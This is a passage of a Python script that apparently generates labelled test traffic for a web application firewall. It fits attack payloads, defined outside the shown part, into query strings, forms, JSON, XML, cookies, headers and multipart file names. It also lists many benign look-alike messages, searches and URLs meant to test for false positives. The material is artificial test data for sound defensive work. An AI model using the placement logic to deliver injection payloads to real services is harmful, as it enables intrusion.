    ("java", "java-class-loading", CLASS_LOADING, ["param-name", "form", "query", "json", "xml"], RS_VALUES),
    ("java", "java-script-upload", JAVA_UPLOAD, UPLOAD_PLACES, RS_UPLOAD_PLACES),
    ("java", "suspicious-java-method", JAVA_METHOD, VALUES, RS_VALUES),
]

PARAMS = ["q", "name", "filter", "url", "file", "callback", "search", "template", "host", "lang", "sort", "bio"]
RS_PATHS_GET = ["/", "/index.php", "/get", "/search", "/api/v1/items"]
RS_PATHS_POST = ["/post", "/index.php", "/", "/api/v1/items"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
DECODING = {"query", "form", "path", "cookie", "param-name", "rs-query", "rs-form", "rs-cookie"}
RAW_PAIRS = {"param-name", "form", "rs-query", "rs-form"}
BOUNDARY = "----fiftythirdBoundary7MA4YWxkTrZu0gW"


def _header_safe(value: str) -> bool:
    return value.isascii() and not any(c in value for c in "\r\n\0")


def fits(place: str, payload: str) -> bool:
    """Whether `payload` can be sent in `place` as written."""
    if isinstance(payload, Doc):
        return place in ("json", "rs-json")
    if isinstance(payload, QS):
        return place in RAW_PAIRS
    if isinstance(payload, Enc):
        return place in DECODING
    if "header:" in place:
        return _header_safe(payload)
    if place.endswith("multipart-filename"):
        return _header_safe(payload) and '"' not in payload
    return True


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _raw_upload(uri: str, header: str, filename: str) -> dict[str, Any]:
    """A file sent as the raw body, its name in a header (the way some upload widgets send it)."""
    return {"method": "POST", "uri": uri, "body": "placeholder file content",
            "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/octet-stream",
                        header: filename}}


def _form_raw(uri: str, pairs: str) -> dict[str, Any]:
    rec = _form(uri, [("csrf_token", "t0k3n")])
    return {**rec, "body": rec["body"] + "&" + pairs}


def _form_body(uri: str, fields: list[tuple[str, str]], raw: bool) -> dict[str, Any]:
    if not raw:
        return _form(uri, fields)
    return {**_form(uri, []), "body": "&".join(f"{k}={v}" for k, v in fields)}


def _xml(uri: str, root: str, field: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><{root}><{field}>{escape(value)}</{field}></{root}>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _multipart(uri: str, field: str, value: str, filename: str | None = None) -> dict[str, Any]:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\nt0k3n\r\n']
    if filename is None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n')
    else:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
                     f'Content-Type: application/octet-stream\r\n\r\n{value}\r\n')
    parts.append(f"--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(parts),
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _q(payload: str) -> str:
    """The payload as it goes into a URL or form: already-encoded payloads as they are."""
    return str(payload) if isinstance(payload, Enc) else urllib.parse.quote(payload, safe="")


def real_place(place: str, name: str, p: str) -> dict[str, Any]:
    """`p` on one of our routes."""
    if isinstance(p, Doc):
        return {**_json("/api/users", {}), "body": str(p)}
    if isinstance(p, QS):
        if place == "param-name":
            return _get("/api/users?" + p)
        return _form_raw("/admin/users/search", str(p))
    if place == "query":
        return _get(f"/api/users?{name}={_q(p)}&page=1")
    if place == "form":
        return _form_body("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)], False) \
            if not isinstance(p, Enc) else _form_raw("/admin/users/search", f"{name}={p}")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        value = str(p) if isinstance(p, Enc) else urllib.parse.quote(p)
        return _with_headers(_get("/api/users?page=1"), {"Cookie": f"session=abc123; {name}={value}"})
    if place == "header:X-File-Name":
        return _raw_upload("/api/users/42/avatar", "X-File-Name", p)
    if place.startswith("header:"):
        return _with_headers(_get("/api/users?page=1"), {place.split(":", 1)[1]: p})
    if place == "xml":
        return _xml("/api/users", "user", name, p)
    if place == "multipart-field":
        return _multipart("/api/users/42/profile", name, p)
    if place == "multipart-filename":
        return _multipart("/api/users/42/avatar", "avatar", "placeholder file content", filename=p)
    if place == "param-name":
        return _get(f"/api/users?{_q(p)}=1&page=1")
    if place == "path":
        return _get(f"/api/users/{_q(p)}")
    raise ValueError(place)


def rs_place(place: str, i: int, p: str) -> dict[str, Any]:
    """`p` the way a regression suite sends it: a path that is not our route, an arbitrary parameter name."""
    name = RS_PARAMS[i % len(RS_PARAMS)]
    get_path, post_path = RS_PATHS_GET[i % len(RS_PATHS_GET)], RS_PATHS_POST[i % len(RS_PATHS_POST)]
    if isinstance(p, Doc):
        return {**_json(post_path, {}), "body": str(p)}
    if isinstance(p, QS):
        if place == "rs-query":
            return _get(f"{get_path}?{p}")
        return {**_form(post_path, []), "body": str(p)}
    if place == "rs-query":
        return _get(_query(get_path, [(name, p)]) if not isinstance(p, Enc) else f"{get_path}?{name}={p}")
    if place == "rs-form":
        return _form_body(post_path, [(name, _q(p))], True)
    if place == "rs-json":
        return _json(post_path, {name: p})
    if place == "rs-xml":
        return _xml(post_path, "root", name, p)
    if place == "rs-cookie":
        value = str(p) if isinstance(p, Enc) else urllib.parse.quote(p)
        return _with_headers(_get(get_path), {"Cookie": f"{name}={value}"})
    if place == "rs-header:X-Filename":
        return _raw_upload(post_path, "X-Filename", p)
    if place.startswith("rs-header:"):
        return _with_headers(_get(get_path), {place.split(":", 1)[1]: p})
    if place == "rs-multipart-filename":
        return _multipart(post_path, "file", "placeholder file content", filename=p)
    raise ValueError(place)


def choose(places: list[str], i: int, p: str) -> str:
    """The i-th payload's placement: the next of `places` from i on that fits it."""
    for k in range(len(places)):
        place = places[(i + k) % len(places)]
        if fits(place, p):
            return place
    raise ValueError(f"no placement fits {p!r}")


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for category, sub, payloads, places, rs_places in TITLES:
        for i, p in enumerate(payloads):
            real = choose(places, i, p)
            rs = choose(rs_places, i, p)
            for place, rec in ((real, real_place(real, PARAMS[(i + n) % len(PARAMS)], p)),
                               (rs, rs_place(rs, i + n, p))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": str(p)}


# ---------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "can someone cat the nginx error log on staging and paste the last 20 lines?",
    "I added an alias for kubectl in my zshrc, `alias k=kubectl`, saves so much typing",
    "my shell history is full of git commands, ctrl-r is a lifesaver",
    "pipe the output through jq and less and it becomes readable",
    "ps shows the worker is still running, I'll wait for it to finish",
    "what does id -u return inside the container? we need uid 1000",
    "env vars are loaded from the dotenv file only in dev",
    "the sqlite db is in data/app.db, open it with the sqlite3 shell if you need to look",
    "mail server is back, SMTP on port 587 with STARTTLS",
    "IMAP sync in Thunderbird takes ages today",
    "on Windows use dir instead of ls, and type instead of cat",
    "PowerShell 7 is installed on the build agents now",
    "our crawler identifies itself as AcmeBot/2.1 in the user agent",
    "python3 on the new image is 3.11, please rebuild your venvs",
    "php 8.3 deprecated dynamic properties, I'm fixing the warnings",
    "the plugin system uses a map of callables now instead of variable functions",
    "Node 22 becomes LTS in October, let's plan the upgrade",
    "child_process is only used by the build script, never at runtime",
    "the metadata endpoint on our VMs is blocked by the network policy, good",
    "the printer on floor 2 has address 192.168.1.50 if anyone needs it",
    "prototype pollution was in the lodash advisory last year, we're on 4.17.21",
    "Ruby 3.3 on the billing service, Rails 7.1",
    "there's an old Perl script that generates the invoices, please don't touch it",
    "the event loop got blocked by a huge JSON parse, we moved it to a worker thread",
    "the data URI for the logo is inlined in the email template",
    "please don't alert the whole channel for a flaky test",
    "the javascript sort method mutates the array, use toSorted instead",
    "Angular 17 migration is done, templates compile cleanly",
    "the settings column in postgres is jsonb with a GIN index",
    "scientific notation in the CSV export (like 6.02e23) breaks Excel",
    "the login page has a new split layout, check it on mobile",
    "select the rows you want and click export",
    "editing the hosts file works for testing the new domain locally",
    "the setup guide is at docs/setup.md in the repo root",
    "log4j is patched everywhere, we ran the scanner last week",
    "the class loader issue in the Gradle build was a stale cache",
    "I uploaded report.pdf to the shared drive",
    "Java's ProcessBuilder docs explain how to redirect stderr",
    "who is on call this weekend? I can swap with you",
    "the cat photo contest closes on Friday, vote in the thread",
    "history of the project is in the wiki under About",
    "Type the order number and press enter to search",
    "net revenue is up 12% quarter over quarter",
    "the shell company story in the news was wild",
    "ping me after lunch and we'll pair on the migration",
    "is the API down or is it just me? getting timeouts",
    "the new office has a great view, we're on the 14th floor",
    "happy birthday Priya! cake in the kitchen at 3",
    "the alias field on the contact form is optional",
    "history teacher mode: the first version of this app shipped in 2016",
    "pipes in the kitchen are being fixed tomorrow morning, water is off 9-11",
    "the dd-mm-yyyy date format confuses the US team, switch to ISO",
    "use `ls -la` to see hidden files, the config is a dotfile",
    "who wants tea? putting the kettle on",
    "df says the disk is at 91%, I'll clean the old docker images",
    "set the user agent to something descriptive when calling partner APIs",
    "the referer header is stripped by our CDN for privacy",
    "we dropped SQLite for tests, everything uses postgres containers now",
    "please rotate the SMTP relay credentials before the audit",
    "POP3 support is deprecated in the mail client, IMAP only from next month",
    "cmd + shift + p opens the command palette in VS Code",
    "Windows Terminal with PowerShell is actually pleasant now",
    "the cron job runs /usr/local/bin/backup.sh at 2am",
    "we store the binaries under /opt/acme/bin on the servers",
    "the wrapper class around the payment SDK needs tests",
    "the function call overhead is negligible here, don't micro-optimise",
    "Node.js streams are great for the export, memory stays flat",
    "our AWS account uses IMDSv2 only, the old metadata calls are disabled",
    "the internal dashboard moved to a new IP, the DNS name stays the same",
    "JavaScript prototype chains confuse everyone at first, read the MDN page",
    "the Ruby gem for PDF rendering got a security update",
    "Perl one-liners in the old runbook still work but let's rewrite them in Python",
    "the DoS protection at the CDN kicked in during the launch, all good",
    "the data scheme for inline images is fine for icons under 4kb",
    "Javascript methods like map and filter read nicer than for loops",
    "the alert fatigue in the on-call rotation is real, let's tune the thresholds",
    "AngularJS 1.x is end of life, the last app using it goes away in Q3",
    "JSON columns are handy but we still want a proper schema",
    "the measurement was 1.5e-3 seconds per request on average",
    "login with Slack works again after the certificate renewal",
    "we select users by team in the admin panel now",
    "the OS file picker on macOS hides dotfiles by default",
    "relative paths in the markdown docs break on the website, use absolute links",
    "Log4j 1.x is still used by the legacy batch job, it's on the migration list",
    "the class loading order matters for the plugin jars",
    "JSP pages in the old admin were replaced by React in 2021",
    "the Java method naming convention is camelCase, please fix the PR",
    "I ran the migration twice by accident, it's idempotent so no harm",
    "does anyone have the link to the design doc for search?",
    "sorry, I'll be 10 minutes late to standup",
    "the customer said the export took forever, can we look at it?",
    "great demo today, the team did amazing work",
    "the build is green again after the dependency bump",
    "please review my PR when you have a minute, it's small",
    "the on-call handbook now has a section on database failover",
    "I'm out tomorrow, Sam covers for me",
    "release notes for 3.4 are in the drive",
    "the staging database was refreshed from last night's snapshot",
    "we need a volunteer for the lightning talks on Thursday",
    "the new hire starts Monday, please say hi in #general",
    "I think the bug is in the timezone conversion, not the query",
    "the retry logic should back off exponentially, not linearly",
    "we're moving the standup to 9:45 from next week",
    "the wifi password for guests is on the whiteboard in reception",
    "budget approval for the conference came through",
    "can we get a read replica for the reporting queries?",
    "the feature flag for the new editor is on for 10% of users",
    "O'Reilly has a good book on shell scripting, I can lend it",
    "the 'Or' in the search box was treated as a keyword, fixed now",
    "the cat is out of the bag, marketing announced it already",
    "my alias on the forum is sunny_dev",
    "the bash history was wiped when the container restarted, that's expected",
    "type C: in the drive box on the Windows VM to switch drives",
    "ipconfig on Windows, ip addr on Linux, same idea",
    "certutil is how the Windows team checks certificate chains",
    "the powershell script for the laptop setup is in the IT repo",
    "the crawler's user agent string is in the robots page",
    "the .env file should never be committed, it's in gitignore",
    "reading the apache access logs helped find the slow endpoint",
    "the web.config on the IIS box needs the new rewrite rule",
    "the win.ini story from the 90s in the retro talk was fun",
    "the boot time of the new laptops is under 10 seconds",
    "SSH keys live in your home directory, don't share them",
    "JNDI datasource config in Tomcat is what the old app uses",
    "the LDAP server for SSO is managed by IT, ask them for group changes",
    "the shell.jsp file name in the pentest report was their test upload, it was rejected",
    "Runtime exceptions in the Java client are logged at WARN now",
    "the ProcessBuilder in the converter service runs ffmpeg",
    "the InitialContext lookup is only in the legacy EJB module",
    "Thread.sleep in tests is a smell, use a clock abstraction",
    "System.getProperty reads the JVM flags, env vars are separate",
    "the reflection in the serializer is slow, switch to the generated code",
    "the require calls in the old bundle are CommonJS, the new code is ESM",
    "process.env is read once at startup in config.ts",
    "eval is banned by the linter config, for good reasons",
    "setTimeout with a string argument is also banned",
    "new Function is flagged by the CSP, we removed the last usage",
    "the constructor sets default values, the prototype has the methods",
    "Object.freeze on the config object avoids accidental writes",
    "the {{name}} placeholders in the email templates are Handlebars",
    "the 7*7 grid layout for the calendar looks good",
    "confirm the order before shipping, the dialog asks twice",
    "prompt engineering workshop is on Wednesday",
    "the while loop in the retry helper has a max attempts guard",
    "for loops over 1e6 items are fine in Node, don't worry",
    "the php.ini in the container sets memory_limit to 256M",
    "the data: and blob: sources are allowed in our CSP for images",
    "Kernel panic on the old NAS again, time to replace it",
    "the IO team meets on Tuesdays",
]
SEARCHES = [
    "cat food", "alias", "history", "shell", "pipe fitting", "ps5", "id card", "env", "sqlite", "smtp relay",
    "imap settings", "pop3", "dir", "type a", "powershell", "cmd", "net user guide", "ping", "whoami", "uname",
    "bash", "python", "perl", "ruby", "node", "java", "php", "jsp", "log4j", "jndi",
    "Ana Lopez", "O'Brien", "D'Angelo", "Jean-Luc", "McDonald & Sons", "Smith, John", "Müller", "Zoë",
    "José García", "François", "data science", "metadata", "prototype", "constructor", "require",
    "process", "function", "alert", "confirm", "prompt", "angular", "template", "json", "select",
    "union station", "or", "and", "1.5", "1e3", "2.5e-3", "split", "login", "admin", "bypass road",
    "kernel", "system", "exec summary", "eval", "while", "for", "loop", "do not disturb", "true story",
    "class", "loader", "upload", "file", "path", "traversal", "etc", "passwd reset", "win", "boot",
    "apache", "nginx", "git", "ssh", "key", "cloud", "aws", "gcp", "azure", "ip address",
    "127", "10.0", "192", "localhost", "google", "internal", "instance", "user data", "credentials",
    "Rock & Roll", "Tom & Jerry", "AT&T", "C++", "C#", "F#", ".NET", "Node.js", "Vue.js", "Next.js",
    "50% off", "$100", "#1 seller", "@acme", "a+b", "x-ray", "co-op", "e-mail", "re: invoice", "q&a",
]
PROSE = [
    "Please update my shipping address; I moved to 12 Alias Road last month.",
    "The cat knocked over the printer again, so the history report is late.",
    "Our plumber said the pipes under the sink need replacing before winter.",
    "I'm looking for the PS5 controller order from March, order id 4471.",
    "Could you resend the ID card invoice? The first one went to spam.",
    "We prefer email over SMTP-based notifications for the weekly digest.",
    "The shell of the building is done; interiors start in June.",
    "Type your name as it appears on your passport, including accents.",
    "The net result of the survey was positive, 82% satisfied.",
    "Ping pong tournament results: Sam won, Alex came second.",
    "Who am I supposed to contact about the refund?",
    "The Ruby anniversary dinner is booked for Saturday at 7.",
    "Pearl (not Perl) from accounting asked about the budget.",
    "Our Java coffee order arrives every Monday.",
    "The node at the end of the hallway is the network closet.",
    "The prototype of the new chair was delivered for testing.",
    "The constructor company finished the extension on time.",
    "Process improvements are listed in the quarterly memo.",
    "The function room is booked for the farewell party.",
    "Please confirm the appointment by replying to this message.",
    "I'd like to alert you that the office closes early on Friday.",
    "The template for the holiday card is in the shared folder.",
    "Select one of the available time slots and we'll confirm.",
    "The union meeting is on Thursday in room B.",
    "Either the blue or the green option works for us.",
    "The split shift schedule is posted on the board.",
    "Login problems should be reported to the help desk.",
    "The bypass road will be closed for repairs next week.",
    "The kernel of the idea came from a customer interview.",
    "The system upgrade is scheduled for Sunday night.",
    "The executive summary is two pages long.",
    "We evaluate the proposals while the committee meets.",
    "For the record, the loop trail is 5 km long.",
    "The class photo will be taken at 10 am.",
    "The loader at the warehouse is out of service.",
    "Please upload your documents before the deadline.",
    "The file you sent was empty, could you send it again?",
    "The path to the lake is muddy after the rain.",
    "Etc. means and so on, the style guide says to avoid it.",
    "Win a free coffee by filling in the survey!",
    "Boots must be worn on the construction site.",
    "The Apache helicopter model kit arrived damaged.",
    "Our cloud storage plan renews in August.",
    "My instance of the form shows a different total.",
    "User data requests are answered within 30 days.",
    "The credentials ceremony for the nurses is on Friday.",
    "Room 127 is on the first floor, next to the lift.",
    "The 10.0 release of the mobile app is out.",
    "The local host for the meetup is our Berlin office.",
    "Rock & Roll night at the community hall on Saturday.",
    "Tom & Jerry screening for the kids at 4 pm.",
    "We switched from AT&T to a local provider.",
    "The C++ workshop needs a bigger room.",
    "50% off all jackets this weekend only.",
    "Re: invoice 2024-117, payment was sent on Tuesday.",
    "Q&A session after the keynote, 20 minutes.",
    "The price is $1.5e3? No, it's $1,500, typo in the flyer.",
    "Population grew to 2.3e6 by the end of the decade.",
    "The 'Or' in the title should be lowercase.",
    "He said 'yes' and then 'no', so we're waiting.",
    "Dear team, the \"all hands\" meeting is moved to 3 pm.",
    "Temperatures between -5 and 3 degrees expected tomorrow.",
    "Please use the form at the bottom; fields marked * are required.",
    "Contact: Anne-Marie O'Neil (HR), ext. 2245.",
    "The admin office is open 9 to 5, Monday to Friday.",
    "The data sheet for the sensor is attached.",
    "Metadata for the photos includes the date and the camera.",
    "Our internal newsletter goes out on the first Monday.",
    "Instance counts by region are in the appendix.",
    "The history of the town hall goes back to 1870.",
    "The alias 'Doc' belongs to our longest-serving volunteer.",
    "The dir. of operations will join the call.",
    "Type A personalities love spreadsheets.",
    "The cmd key on the new keyboards is where alt used to be.",
    "PowerShell training is available through the learning portal.",
    "The Windows in the east wing will be cleaned on Tuesday.",
    "The prompt reply was appreciated by the customer.",
    "Angular brackets in the address field are not allowed.",
    "JSON exports are available in the settings menu.",
    "Scientific calculators are allowed in the exam.",
    "The split between teams is 60/40 this year.",
    "The login counter resets every midnight.",
    "The ticket was escalated to level 2 support.",
    "The river crossing near the old mill is closed.",
    "The mailroom receives parcels until 4 pm.",
    "Posting in the forum requires a verified account.",
    "The web team meets in the small conference room.",
    "The boot camp for new hires runs for two weeks.",
    "The access log book is at the front desk.",
    "The gallery's history wing reopens in May.",
    "Please refer to section 3.2 of the handbook.",
    "The lunch menu: soup, salad, and pie.",
    "The library extends loans to 4 weeks.",
    "The shuttle leaves from gate 7 every 15 minutes.",
    "Our team won the trivia night, again.",
    "The garden club meets every second Sunday.",
    "The recycling bins are emptied on Wednesdays.",
    "The car park will be resurfaced over the holidays.",
    "A reminder that the expense reports are due Friday.",
    "The volunteer schedule for the fair is attached.",
]
PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/html_node/Aliases.html",
    "https://www.gnu.org/software/bash/manual/html_node/Bash-History-Facilities.html",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/dir",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://www.php.net/manual/en/wrappers.php",
    "https://www.php.net/manual/en/functions.variable-functions.php",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/URI/Schemes/data",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://ruby-doc.org/core/Kernel.html",
    "https://perldoc.perl.org/perlop",
    "https://angularjs.org/",
    "https://docs.angularjs.org/guide/expression",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://dev.mysql.com/doc/refman/8.0/en/json-functions.html",
    "https://en.wikipedia.org/wiki/Scientific_notation",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ClassLoader.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://jakarta.ee/specifications/pages/",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://github.com/acme/tools/blob/main/scripts/cleanup.sh",
    "https://github.com/acme/web/tree/main/src/templates",
    "https://example.com/shop/cat-toys?color=red&size=m",
    "https://www.example.org/history/1870-town-hall",
    "https://shop.example.com/p/ps5-controller",
    "https://blog.example.com/2024/05/shell-scripting-tips",
    "https://news.example.net/world/2024/06/10/pipeline-story",
    "https://maps.example.com/?q=Alias+Road+12",
    "https://cdn.example.org/img/angular-logo.svg",
    "https://docs.example.com/api/v2/users?page=2&sort=name",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://calendar.example.com/event?id=4471&tz=Europe%2FBerlin",
    "https://status.example.com/incidents/2024-07-01",
    "https://www.example.co.uk/jobs/java-developer",
    "https://wiki.example.com/display/OPS/On-call+handbook",
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    "https://app.example.com/callback?code=abc&state=xyz",
    "https://en.wikipedia.org/wiki/Perl",
    "https://en.wikipedia.org/wiki/Ruby_(programming_language)",
    "https://www.rfc-editor.org/rfc/rfc1939",
    "https://pkg.go.dev/net/smtp",
    "https://pypi.org/project/requests/",
    "https://www.npmjs.com/package/lodash",
    "https://rubygems.org/gems/rails",
    "https://metacpan.org/pod/IPC::Open3",
    "https://mvnrepository.com/artifact/org.apache.logging.log4j/log4j-core",
    "https://packagist.org/packages/guzzlehttp/guzzle",
    "https://www.example.com/data/report-2024.json",
    "https://example.com/avatars/42.png",
]
PROFILES = [
    {"name": "Siobhán O'Connor", "company": "Cat & Dog Supplies Ltd", "address": "12 Alias Road, Perth"},
    {"name": "Priya Raman", "company": "Shell Renewables", "address": "4 History Lane, Leeds"},
    {"name": "Tomás Ruiz", "company": "Pipe & Drain Co.", "address": "Calle Mayor 8, Madrid"},
    {"name": "Anne-Marie Dubois", "company": "Net Systems SARL", "address": "3 rue de la Paix, Paris"},
    {"name": "Kenji Watanabe", "company": "Ruby Foods", "address": "1-2-3 Shibuya, Tokyo"},
    {"name": "Pearl Jenkins", "company": "Perl & Co Jewellers", "address": "88 Market St, Boston"},
    {"name": "Java Nguyen", "company": "Java House Coffee", "address": "5 Bean Blvd, Seattle"},
    {"name": "Nodir Karimov", "company": "Node Logistics", "address": "Amir Temur 15, Tashkent"},
    {"name": "Alex D'Angelo", "company": "Prototype Studio", "address": "7 Via Roma, Milano"},
    {"name": "Conrad Struct", "company": "Constructor Group", "address": "Bahnhofstr. 1, Zürich"},
    {"name": "Sam Process", "company": "Process Engineering AG", "address": "Ringstrasse 20, Wien"},
    {"name": "Maya Function", "company": "Function Hall Events", "address": "22 Hall Rd, Dublin"},
    {"name": "Alert Security Ltd", "company": "Alert Security Ltd", "address": "9 Watch St, Glasgow"},
    {"name": "Angela Rossi", "company": "Angular Design", "address": "Piazza Duomo 2, Firenze"},
    {"name": "Jason Park", "company": "JSON Analytics", "address": "10 Data Ave, Austin"},
    {"name": "Selena Ortiz", "company": "Select Homes", "address": "14 Union Sq, San Francisco"},
    {"name": "Logan Inwood", "company": "Login Labs", "address": "3 Gate Way, Cambridge"},
    {"name": "Bea Passmore", "company": "Bypass Motors", "address": "Ring Road 4, Coventry"},
    {"name": "Kerry Nell", "company": "Kernel Farms", "address": "RR 2, Guelph"},
    {"name": "Sy Stemmer", "company": "System Partners", "address": "50 King St W, Toronto"},
    {"name": "Eve Allen", "company": "Eval Consulting", "address": "6 Quay St, Auckland"},
    {"name": "Clara Ssen", "company": "Class Act Theatre", "address": "11 Stage Rd, Bristol"},
    {"name": "Lou Der", "company": "Loader Rentals", "address": "Industrial Park 7, Gdansk"},
    {"name": "Phil Uploadman", "company": "Upload Media", "address": "33 Film St, Vancouver"},
    {"name": "Patty Path", "company": "Pathfinder Tours", "address": "2 Summit Rd, Queenstown"},
    {"name": "Etta Cetera", "company": "Etc. Stationery", "address": "41 Paper Ln, York"},
    {"name": "Winnie Boot", "company": "Boot & Win Outfitters", "address": "8 Trail Ave, Denver"},
    {"name": "Apache Junction Realty", "company": "Apache Junction Realty", "address": "AZ 85120"},
    {"name": "Cloudia Sky", "company": "Cloud Nine Bakery", "address": "9 Cloud St, Brisbane"},
    {"name": "Ina Stance", "company": "Instance Robotics", "address": "Kungsgatan 4, Stockholm"},
    {"name": "Cred Ential", "company": "Credentials Training", "address": "27 School Rd, Cork"},
    {"name": "Rocco Rolle", "company": "Rock & Roll Records", "address": "1 Abbey Rd, London"},
    {"name": "Tom Jerrison", "company": "Tom & Jerry Toys", "address": "77 Cartoon Ave, Burbank"},
    {"name": "Ada Lovelace", "company": "C++ Academy", "address": "12 Engine St, London"},
    {"name": "Zoë Müller", "company": "Müller & Söhne GmbH", "address": "Hauptstr. 5, München"},
    {"name": "José García", "company": "García y Asociados", "address": "Av. Libertador 1200, Buenos Aires"},
    {"name": "François Lefèvre", "company": "Lefèvre Frères", "address": "15 quai des Chartrons, Bordeaux"},
    {"name": "Ngozi Okafor", "company": "Okafor Data Ltd", "address": "4 Marina Rd, Lagos"},
    {"name": "Olga Ivanova", "company": "Ivanova Design", "address": "Nevsky pr. 28, St Petersburg"},
    {"name": "Li Wei", "company": "Wei Trading Co.", "address": "88 Nanjing Rd, Shanghai"},
    {"name": "Fatima Zahra", "company": "Zahra Textiles", "address": "Rue 12, Casablanca"},
    {"name": "Mia Cat", "company": "The Cat Café", "address": "3 Whisker Ln, Bath"},
    {"name": "Dee Ear", "company": "Dir Architects", "address": "17 Plan St, Oslo"},
    {"name": "Ty Pewriter", "company": "Type Foundry", "address": "9 Serif Rd, Edinburgh"},
    {"name": "Ping Chen", "company": "Ping Pong Club", "address": "2 Paddle Ln, Taipei"},
    {"name": "Nettie User", "company": "Net User Group", "address": "Community Hall, Reading"},
    {"name": "Al Ias", "company": "Alias Investigations", "address": "221B Baker St, London"},
    {"name": "Hester Story", "company": "History Press", "address": "5 Archive Way, Oxford"},
    {"name": "Sheldon Shell", "company": "Shellfish Market", "address": "Pier 39, San Francisco"},
    {"name": "Dana Pipes", "company": "Pipes Plumbing", "address": "1 Valve St, Phoenix"},
    {"name": "Ida Mae", "company": "ID Photo Booth", "address": "Mall Level 2, Singapore"},
    {"name": "Envy Grant", "company": "Env Solutions", "address": "6 Green Rd, Copenhagen"},
    {"name": "Seth Mailer", "company": "SMTP Post Services", "address": "4 Post Rd, Halifax"},
    {"name": "Ima Pope", "company": "IMAP Printing", "address": "10 Ink St, Adelaide"},
    {"name": "Cam Dee", "company": "CMD Events", "address": "2 Event Sq, Lyon"},
    {"name": "Power Shelley", "company": "Power Shell Energy", "address": "Solar Park 1, Seville"},
    {"name": "Metta Data", "company": "Metadata Archives", "address": "14 Record St, Canberra"},
    {"name": "Ruby Redford", "company": "Redford Gems", "address": "3 Jewel Rd, Antwerp"},
    {"name": "Perla Ruiz", "company": "Perla Bakery", "address": "Calle 8, Miami"},
    {"name": "Dot Scheme", "company": "Data Scheme Consulting", "address": "7 Grid St, Dublin"},
    {"name": "Jay Nd", "company": "JNDI Tours", "address": "1 Lake Rd, Geneva"},
    {"name": "Jasper Mills", "company": "JSP Engineering", "address": "20 Mill Rd, Sheffield"},
    {"name": "Ray Flection", "company": "Reflection Mirrors", "address": "8 Glass St, Venice"},
    {"name": "Rhea Quire", "company": "Require Legal", "address": "Temple Row 3, Birmingham"},
    {"name": "Connie Strictor", "company": "Constrictor Reptiles", "address": "5 Zoo Rd, Perth"},
    {"name": "Walter While", "company": "While-U-Wait Repairs", "address": "12 Fix St, Cardiff"},
    {"name": "Forrest Loop", "company": "Loop Cycling", "address": "3 Track Rd, Utrecht"},
    {"name": "Ang Li", "company": "Angle & Li Surveying", "address": "9 Level St, Hong Kong"},
    {"name": "Tempe Late", "company": "Template House", "address": "4 Print Ln, Cape Town"},
    {"name": "Sol Split", "company": "Split Rock Brewing", "address": "2 Quarry Rd, Duluth"},
    {"name": "Ora Andy", "company": "Or & And Ltd", "address": "1 Logic Way, Leuven"},
    {"name": "Unity Union", "company": "Union Credit", "address": "45 Main St, Belfast"},
    {"name": "Dr. Kelly O'Hara", "company": "St. Mary's Clinic", "address": "1 Hospital Rd, Galway"},
    {"name": "Mr. & Mrs. Smith", "company": "Smith & Smith", "address": "P.O. Box 12, Nairobi"},
    {"name": "Jean-Luc Picard", "company": "Starfleet Ltd.", "address": "La Barre, France"},
    {"name": "Ahmed Al-Sayed", "company": "Al-Sayed Trading", "address": "Sheikh Zayed Rd, Dubai"},
    {"name": "Björk Guðmundsdóttir", "company": "Reykjavík Music", "address": "Laugavegur 1, Reykjavík"},
    {"name": "Pat O'Brien-Smythe", "company": "O'Brien & Partners", "address": "Unit 4/12 Harbour St"},
    {"name": "Chris Tee", "company": "C# Solutions", "address": "19 Sharp St, Manchester"},
    {"name": "Rosa Parks Memorial", "company": "Civil Rights Library", "address": "252 Montgomery St"},
]
REFERERS = [
    "https://www.google.com/search?q=alias+command+linux",
    "https://www.google.com/search?q=bash+history+search",
    "https://www.bing.com/search?q=cat+food+delivery",
    "https://duckduckgo.com/?q=powershell+tutorial",
